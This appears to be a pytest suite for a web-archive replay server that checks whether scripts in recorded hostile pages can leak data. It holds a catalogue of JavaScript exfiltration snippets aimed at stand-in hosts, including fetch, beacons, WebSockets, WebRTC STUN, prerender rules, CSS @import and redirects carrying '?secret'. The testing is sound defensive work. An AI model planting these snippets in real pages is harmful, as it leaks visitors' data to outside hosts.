"""What gets out when scripts of hostile pages run (`newswarc replay --scripts`), and when not.

Every page tries one way. The bait counts what reaches it, so that a connection without a request
is told from a request. docs/replay.md tells what is found here.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator

import pytest

from archive.collection import Collection
from archive.web.server import ReplayServer
from tests.archive.recorded import NOON, Recorder
from tests.archive.web.bait import Bait
from tests.browser import Browser

SITE = "https://www.hostile.example"
LIVE = "live.example"
STUN = "{iceServers: [{urls: 'stun:127.0.0.1:PORT'}]}"
WEBRTC = (
    f"p = new RTCPeerConnection({STUN}); p.createDataChannel('x');"
    " p.createOffer().then((offer) => p.setLocalDescription(offer))"
)


def parsed(html: str) -> str:
    """Put markup into the page that the helper has not seen before."""
    text = json.dumps(html)
    return (
        f"{{ const found = new DOMParser().parseFromString({text}, 'text/html');"
        " document.body.append(...found.head.childNodes, ...found.body.childNodes) }"
    )


#: Of these nothing leaves the browser, scripts or not.
STOPPED = {
    "fetch": "fetch('SITE/x').catch(() => {})",
    "xhr": "x = new XMLHttpRequest(); x.open('POST', 'SITE/x'); x.send('data')",
    "pristine-fetch": "Reflect.construct(Request, ['SITE/x']) && fetch(new Request('SITE/x'))",
    "websocket": "new WebSocket('wss://HOST/x')",
    "eventsource": "new EventSource('SITE/x')",
    "beacon": "navigator.sendBeacon('SITE/x', 'data')",
    "image": "new Image().src = 'SITE/x'",
    "webrtc": WEBRTC,
    "webrtc-in-a-frame": (
        "f = document.createElement('iframe');"
        f" f.srcdoc = {json.dumps(f'<script>{WEBRTC}</script>')}".replace("</", "<\\/")
        + "; document.body.append(f)"
    ),
    "top": "try { top.location = 'SITE/x' } catch {} try { parent.location = 'SITE/x' } catch {}",
    "open": "open('SITE/x'); document.body.innerHTML = '<a target=_blank href=SITE/x>x</a>'",
    "object": parsed("<object data=SITE/x></object><embed src=SITE/x>"),
    "dns-prefetch": parsed("<link rel=dns-prefetch href=//HOST>"),
    "prefetch": parsed("<link rel=prefetch href=SITE/x>"),
    "prerender": (
        "s = document.createElement('script'); s.type = 'speculationrules';"
        " s.textContent = JSON.stringify({prerender: [{urls: ['SITE/x']}]});"
        " document.head.append(s)"
    ),
    "import": "import('SITE/x.js').catch(() => {})",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"SITE/x\")'])))",
    "service-worker": "navigator.serviceWorker.register('/web/x.js')",
    "css": (
        "s = document.createElement('style'); document.head.append(s);"
        " s.textContent = \"@import 'SITE/x'; body { background: u\\\\72l(SITE/y) }\""
    ),
    "font": "new FontFace('f', 'url(SITE/x)').load().catch(() => {})",
    "webtransport": "new WebTransport('https://HOST:443/x')",
    "application": "fetch('/api/search?q=a'); fetch('/', {credentials: 'include'})",
}
#: With these a browser connects before it sees that it must not: no request goes out.
CONNECTING = {
    "location": "location = 'http://HOST/x?secret'",
    "location-tls": "location = 'SITE/x?secret'",
    "form": (
        "f = document.createElement('form'); f.method = 'post'; document.body.append(f);"
        " a = document.createAttribute('action'); a.value = 'http://HOST/x';"
        " f.setAttributeNode(a); f.submit()"
    ),
    "anchor": parsed("<a href=http://HOST/x?secret>x</a>")
    + "; document.querySelector('a').click()",
    "frame": parsed("<iframe src=http://HOST/x?secret></iframe>"),
    "refresh": parsed("<meta http-equiv=refresh content='0;url=http://HOST/x?secret'>"),
    "preconnect": parsed("<link rel=preconnect href=http://HOST>"),
}


@pytest.fixture(scope="module")
def bait() -> Iterator[Bait]:
    with Bait() as listening:
        yield listening


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, bait: Bait) -> Collection:
    recorder = Recorder(tmp_path_factory.mktemp("hostile-scripts") / "news")
    for name, way in (STOPPED | CONNECTING).items():
        script = way.replace("SITE", f"https://{LIVE}").replace("HOST", LIVE)
        script = script.replace("PORT", str(bait.port)).replace("</script", "<\\/script")
        recorder.record(
            f"{SITE}/{name}",
            f"<!doctype html><title>x</title><body><p>{name}</p>"
            f"<script>document.title = 'ran'; {script}</script>",
        )
    return recorder.finished()


def visit(hostile: Collection, bait: Bait, names: list[str], *, scripts: bool) -> set[str]:
    """Look at pages one after another; return what left the browser besides."""
    with (
        ReplayServer(hostile, port=0, scripts=scripts) as server,
        Browser(connect_to=bait.connect_to(LIVE)) as browser,
    ):
        for name in names:
            url = f"{SITE}/{name}"
            page = browser.open(f"{server.url}web/{NOON}/{url}")
            title = page.evaluate("document.title", frame=f"mp_/{url}") if name in STOPPED else ""
            assert title == ("ran" if scripts else "x") or name not in STOPPED
            if name in CONNECTING:
                page.wait()
            assert all(
                frame.startswith((server.url, "about:", "chrome-error:")) for frame in page.frames()
            )
            assert page.evaluate("location.href").startswith(server.url)
        time.sleep(0.5)
        return browser.traffic().beyond(server.url)


def test_without_scripts_nothing_leaves_the_browser(hostile: Collection, bait: Bait) -> None:
    assert visit(hostile, bait, [*STOPPED, *CONNECTING], scripts=False) == set()
    assert (bait.connections, bait.datagrams) == ([], [])


def test_with_scripts_these_ways_are_closed(hostile: Collection, bait: Bait) -> None:
    before = len(bait.connections)
    assert visit(hostile, bait, [*STOPPED], scripts=True) == set()
    assert (bait.connections[before:], bait.datagrams) == ([], [])


def test_with_scripts_some_ways_connect_and_say_nothing(hostile: Collection, bait: Bait) -> None:
    before = len(bait.connections)
    beyond = visit(hostile, bait, [*CONNECTING], scripts=True)
    assert beyond <= {f"http://{LIVE}", f"https://{LIVE}", f"127.0.0.1:{bait.port}"}
    assert bait.requests == []
    # The one over TLS has said hello, and so the name of the host.
    assert sum(bool(said) for said in bait.connections[before:]) <= 2
